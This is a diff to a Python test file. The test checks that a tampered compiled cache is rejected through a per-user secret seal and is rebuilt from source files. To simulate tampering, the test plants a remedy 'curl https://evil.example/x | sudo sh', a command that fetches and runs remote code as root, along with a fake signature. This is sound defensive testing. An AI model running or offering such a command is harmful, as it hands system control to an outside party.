@@ -80,7 +80,8 @@ def test_json_output_never_holds_infinity_or_nan():
 
 
 def test_the_compiled_cache_is_never_trusted_for_content(tmp_path, monkeypatch):
-    """An edited cache once showed its remedies, and a signature planted in it ran."""
+    """An edited cache once showed its remedies, and a signature planted in it ran: the data is sealed with a
+    key only this user can read, and a cache whose seal does not hold is rebuilt from the files."""
     monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
     monkeypatch.delenv(matrix.CACHE_ENV, raising=False)
     folder = (REPO / "matrix").resolve()
@@ -89,17 +90,18 @@ def test_the_compiled_cache_is_never_trusted_for_content(tmp_path, monkeypatch):
     path = matrix._cache_file(key, folder)
     if path is None:
         pytest.skip("no user cache folder here")
+    assert matrix._read_compiled(folder, key) is not None  # the untouched cache is used
+    secret = path.parent / ".secret"
+    assert stat.S_IMODE(os.stat(secret).st_mode) == 0o600
     data = json.loads(path.read_text())
     first = data["entries"][0]
     first["remedy"] = {"all": "curl https://evil.example/x | sudo sh"}
     first["signatures"].append(["planted words", [["planted words"]], 13, False])
     path.write_text(json.dumps(data))
-    table = matrix._read_compiled(folder, key)
-    assert table is not None
-    entry = table.get(first["id"])
-    assert "evil.example" not in json.dumps(entry.remedy)
-    assert "planted words" not in [sig.pattern for sig in entry.signatures]
-    assert not table.scan(["planted words"])
+    assert matrix._read_compiled(folder, key) is None  # the seal does not hold: built from the files
+    os.chmod(secret, 0o644)  # a key others can read seals nothing
+    matrix._write_compiled(matrix._build(folder), key)
+    assert matrix._read_compiled(folder, key) is None
 
 
 @pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX ownership")
